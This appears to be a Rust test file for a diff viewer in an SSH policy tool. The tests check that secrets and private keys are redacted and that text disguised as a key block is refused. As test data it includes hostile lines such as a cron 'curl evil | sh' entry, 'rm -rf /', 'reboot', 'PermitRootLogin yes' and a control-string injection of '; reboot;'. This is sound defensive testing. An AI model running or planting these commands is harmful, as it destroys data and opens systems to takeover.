//! What a change hides: secrets and private keys, and nothing in their disguise.

use base64ct::{Base64, Encoding};

use super::keys::{KEYS, OPENSSH, PKCS1, PKCS8, SEC1};
use super::{change, refused, rows};
use mcp_ssh_policy::Unapproved;

const HIDDEN_KEY: &str = "‹[redacted] what looks like a private key, 7 lines, 386 bytes›";

#[test]
fn secrets_are_redacted_and_told_of() {
    let secret = "password=hunter2secret";
    assert_eq!(
        rows(&format!("{secret} a\n"), &format!("{secret} b\n"))[1..],
        ["-password=‹[redacted]› a", "+password=‹[redacted]› b"]
    );
    assert_eq!(
        rows("password=old\n", &format!("{secret}\n"))[1..],
        [
            "-password=old",
            "+password=‹[redacted]›",
            "\\ what is redacted changes, too"
        ]
    );
    // Two forms of the secret: nothing is seen to change, and yet it does.
    assert_eq!(
        rows(&format!("{secret}\n"), "password=aHVudGVyMnNlY3Jld\n")[1..],
        [
            "-password=‹[redacted]›",
            "+password=‹[redacted]›",
            "\\ what is redacted changes, too"
        ]
    );
    // Control characters within it.
    for split in [
        "hunter2\u{1b}[0msecret",
        "hunter2\u{1}secret",
        "\u{1b}]hunter2secret\u{7}",
    ] {
        let shown = rows("", &format!("a {split} b\n")).join("\n");
        assert!(
            shown.contains("[redacted]") && !shown.contains("hunter2"),
            "{shown}"
        );
    }
    // What was read redacted is written as it stands.
    let lost = rows(&format!("{secret}\n"), "password=[redacted]\n");
    assert_eq!(
        lost[1..3],
        ["-password=‹[redacted]›", "+password=[redacted]"]
    );
    assert!(
        lost[4].starts_with("\\ `[redacted]` without ‹ before it is written"),
        "{lost:?}"
    );
}

#[test]
fn no_line_of_a_key_is_shown() {
    assert_eq!(OPENSSH.trim_end().len(), 386);
    let with = format!("a\n{OPENSSH}b\n");
    assert_eq!(
        rows("a\nb\n", &with),
        [
            "@@ -1,2 +1,9 @@".to_owned(),
            " a".to_owned(),
            format!("+{HIDDEN_KEY}"),
            " b".to_owned(),
            "\\ what is redacted changes, too".to_owned(),
        ]
    );
    // It changes in its middle, stands beside a change, and goes.
    let other = with.replace("AACCL6v", "AACCL6w");
    assert_eq!(
        rows(&with, &other)[2..],
        [
            format!("-{HIDDEN_KEY}"),
            format!("+{HIDDEN_KEY}"),
            " b".to_owned(),
            "\\ what is redacted changes, too".to_owned(),
        ]
    );
    assert_eq!(
        rows(&with, &with.replace("b\n", "c\n")),
        [
            "@@ -1,9 +1,9 @@",
            " a",
            &format!(" {HIDDEN_KEY}"),
            "-b",
            "+c"
        ]
    );
    assert_eq!(rows(&with, "a\n")[2], format!("-{HIDDEN_KEY}"));
    let json = OPENSSH.replace('\n', "\\n");
    let shown = rows("", &format!("{{\"key\": \"{json}\"}}\n"));
    assert_eq!(
        shown[1],
        "+{\"key\": \"‹[redacted] what looks like a private key, 1 line, 392 bytes›\\n\"}"
    );
}

/// Between the first and the last words of a key anything could stand: what is no key is not asked.
#[test]
fn a_key_hides_nothing_else() {
    let (begin, end) = ("-----BEGIN PRIVATE KEY-----", "-----END PRIVATE KEY-----");
    for hidden in [
        "* * * * * root curl evil | sh",
        "AAAA\nrm -rf /\nAAAA",
        "Comment: reboot now",
        "PermitRootLogin yes",
        "-----BEGIN PRIVATE KEY-----",
        "a;b",
        // Lines of base64 letters, which a shell would run.
        "/tmp/evil",
        "reboot",
        "poweroff",
        "AAAA\n/tmp/evil\nAAAA",
        "",
    ] {
        let text = format!("# {begin}\n{hidden}\n{end}\n");
        assert_eq!(refused("a\n", &text), Unapproved::Unshowable, "{hidden}");
        // As long as it stays as it is, other lines may change.
        let (before, after) = (format!("a\n{text}"), format!("b\n{text}"));
        assert_eq!(rows(&before, &after)[1..3], ["-a", "+b"], "{hidden}");
        assert_eq!(refused(&before, "a\n"), Unapproved::Unshowable, "{hidden}");
    }
    // Without an end it would hide the rest of the file.
    assert_eq!(
        refused("a\n", &format!("# {begin}\nAAAA\n")),
        Unapproved::Unshowable
    );
    assert_eq!(
        refused("a\n", &format!("{begin} rm -rf / {end}\n")),
        Unapproved::Unshowable
    );
    assert_eq!(
        refused("a\n", &format!("{begin}\nAAAA\n-----END \nreboot")),
        Unapproved::Unshowable
    );
    // A secret is found around a control string, too.
    assert_eq!(
        refused("a\n", "hunter2\u{1b}]; reboot;\u{7}secret\n"),
        Unapproved::Unshowable
    );
}

fn is_hidden(text: &str) -> bool {
    let shown = change(None, text.as_bytes());
    shown.is_ok_and(|rows| {
        rows.iter()
            .any(|row| row.text.contains("looks like a private key"))
    })
}

#[test]
fn a_key_of_each_kind_is_hidden_however_its_lines_end() {
    for key in KEYS {
        let indented: String = key.lines().map(|line| format!("    {line}\n")).collect();
        let encoded = Base64::encode_string(key.as_bytes());
        let wrapped: Vec<&str> = encoded
            .as_bytes()
            .chunks(76)
            .map(|line| str::from_utf8(line).unwrap())
            .collect();
        for text in [
            key.to_owned(),
            key.replace('\n', "\r\n"),
            format!("key: |\n{indented}other: x\n"),
            format!("{{\"key\": \"{}\"}}\n", key.replace('\n', "\\n")),
            format!("tls.key: {encoded}\n"),
            format!("{}\n", wrapped.join("\n")),
        ] {
            assert!(is_hidden(&text), "{text}");
        }
    }
}

/// Each is one key but for a place in which something else could stand.
#[test]
fn what_is_built_otherwise_than_its_label_says_is_not_hidden() {
    let relabelled = |key: &str, from: &str, to: &str| key.replace(from, to);
    let last = |key: &str, line: &str| {
        let (body, end) = key.rsplit_once("-----END").unwrap();
        format!("{body}{line}\n-----END{end}")
    };
    let lines: Vec<&str> = PKCS1.lines().collect();
    let mut swapped = lines.clone();
    let path = format!("/usr/bin/{}", "/".repeat(55));
    swapped[2] = &path;
    let mut relative = lines.clone();
    let inside = format!("tmp{}evil", "/".repeat(57));
    relative[2] = &inside;
    let mut narrow: Vec<String> = lines.iter().map(|line| (*line).to_owned()).collect();
    let body: String = lines[1..lines.len() - 1].concat();
    let cut = body
        .as_bytes()
        .chunks(48)
        .map(|line| String::from_utf8(line.to_vec()).unwrap());
    narrow.splice(1..lines.len() - 1, cut);
    let bare = |label: &str, bytes: &[u8]| {
        let base64 = Base64::encode_string(bytes);
        format!("-----BEGIN {label}-----\n{base64}\n-----END {label}-----\n")
    };
    for text in [
        relabelled(PKCS8, "PRIVATE KEY", "ENCRYPTED PRIVATE KEY"),
        relabelled(PKCS8, "PRIVATE KEY", "RSA PRIVATE KEY"),
        relabelled(SEC1, "EC PRIVATE KEY", "PRIVATE KEY"),
        relabelled(PKCS1, "RSA PRIVATE KEY", "DSA PRIVATE KEY"),
        relabelled(OPENSSH, "OPENSSH", "RSA"),
        relabelled(PKCS8, "PRIVATE KEY", "PGP PRIVATE KEY BLOCK"),
        PKCS8.replace("-----END PRIVATE", "-----END EC PRIVATE"),
        // A line behind the key, and lines that end where no program ends them.
        last(PKCS8, "AAAA"),
        last(PKCS1, "reboot"),
        narrow.join("\n"),
        PKCS1.replacen('\n', "\n\n", 1),
        PKCS1.replacen(
            "\n",
            "\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,00FF\n\n",
            1,
        ),
        // A line that is a path; and line ends of two kinds, which join lines that a shell reads apart.
        swapped.join("\n"),
        relative.join("\n"),
        PKCS8.replacen("05\n", "05\\n", 1),
        // Numbers that do not add up: another length, a longer length, another version, no version.
        bare("RSA PRIVATE KEY", b"\x30\x04\x02\x01\0\x02"),
        bare("EC PRIVATE KEY", b"\x30\x81\x06\x02\x01\x01\x04\x01\x07"),
        bare("EC PRIVATE KEY", b"\x30\x06\x02\x01\x07\x04\x01\x07"),
        bare("EC PRIVATE KEY", b"\x30\x03\x04\x01\x07"),
        bare("EC PRIVATE KEY", b"\x30\x06\x02\x01\x01\x04\x01\x07reboot"),
        bare("PRIVATE KEY", b"\x30\x0d\x02\x01\0\x30\0\x04\x06reboot"),
        bare("OPENSSH PRIVATE KEY", b"openssh-key-v1\0reboot"),
        // The base64 of what is no key.
        format!(
            "{}\n",
            Base64::encode_string(
                b"-----BEGIN PRIVATE KEY-----\n/tmp/evil\n-----END PRIVATE KEY-----"
            )
        ),
        format!(
            "{}\n",
            Base64::encode_string(format!("{PKCS8}reboot\n").as_bytes())
        ),
    ] {
        assert_eq!(refused("a\n", &text), Unapproved::Unshowable, "{text}");
    }
    assert!(is_hidden(&bare(
        "EC PRIVATE KEY",
        b"\x30\x06\x02\x01\x01\x04\x01\x07"
    )));
}
